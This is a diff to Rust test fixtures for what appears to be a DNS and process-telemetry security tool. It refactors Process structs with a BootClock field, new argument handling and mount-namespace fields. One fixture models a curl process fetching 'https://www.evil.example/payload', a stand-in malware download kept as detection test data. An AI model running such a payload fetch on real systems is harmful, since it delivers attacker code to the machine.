@@ -8,7 +8,7 @@ use dnstrail::alert::Match;
 use dnstrail::dns::{Kind, Message};
 use dnstrail::ecs::{Agent, Writer};
 use dnstrail::event::{self, ConnectionId, Direction, Stage, Task, TaskKey};
-use dnstrail::host::{Host, OperatingSystem};
+use dnstrail::host::{BootClock, Host, OperatingSystem};
 use dnstrail::journal::{Body, Document};
 use dnstrail::net::Transport;
 use dnstrail::process::{Actor, Container, Process, Written};
@@ -138,13 +138,12 @@ pub fn parent() -> Process {
     Process {
         key: TaskKey { pid: 4000, exec_id: 7, start: 5_000_000_000 },
         entity_id: "5c1f0a4be6d94f10".into(),
-        start: TIME - 3_600_000_000_000,
+        clock: BootClock::new(TIME - 3_605_000_000_000),
         executable: Some("/usr/bin/bash".into()),
         executable_deleted: false,
         name: "bash".into(),
-        args: Rc::new(["-bash".to_owned()]),
-        command_line: Some("-bash".into()),
-        args_cut: 0,
+        path_cut: false,
+        arguments: Some(Rc::new(["-bash"].into_iter().collect())),
         working_directory: Some("/home/ada".into()),
         uid: 1000,
         gid: 1000,
@@ -152,6 +151,8 @@ pub fn parent() -> Process {
         group_name: Some("ada".into()),
         namespace_pid: None,
         network_namespace: 4_026_531_840,
+        mount_namespace: 0,
+        foreign_mounts: false,
         container: None,
         parent: None,
         parent_key: None,
@@ -164,11 +165,10 @@ pub fn process() -> Process {
     Process {
         key: TaskKey { pid: 4242, exec_id: 9, start: 9_000_000_000 },
         entity_id: "9e107d9d372bb682".into(),
-        start: TIME - 2_000_000_000,
+        clock: BootClock::new(TIME - 11_000_000_000),
         executable: Some("/usr/bin/curl".into()),
         name: "curl".into(),
-        args: Rc::new(["curl", "-sS", "https://www.evil.example/payload"].map(str::to_owned)),
-        command_line: Some("curl -sS https://www.evil.example/payload".into()),
+        arguments: Some(Rc::new(["curl", "-sS", "https://www.evil.example/payload"].into_iter().collect())),
         parent: Some(Rc::new(parent())),
         parent_key: Some(parent().key),
         parent_name: Some("bash".into()),
